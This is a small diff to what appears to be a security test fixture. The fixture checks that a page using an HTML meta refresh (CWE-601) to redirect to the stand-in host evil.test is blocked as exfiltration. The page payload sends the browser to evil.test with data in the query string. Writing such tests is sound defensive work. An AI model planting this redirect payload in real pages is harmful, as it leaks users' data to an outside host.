@@ -12,7 +12,7 @@ ATTACK = {
     "risk": "exfiltration",
     "references": ["CWE-601", "HTML: meta refresh"],
     "arrives": [{"what": "request", "name": "evil.test", "path": "/refreshed*"}],
-    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"]}],
+    "stopped": [{"reason": ["not-listed"], "entry": ["transparent"], "where": {"name": "evil.test"}}],
     "page": "<meta http-equiv=refresh content='0; "
     "url=http://evil.test/refreshed?from=page'><p>One moment.</p>",
 }
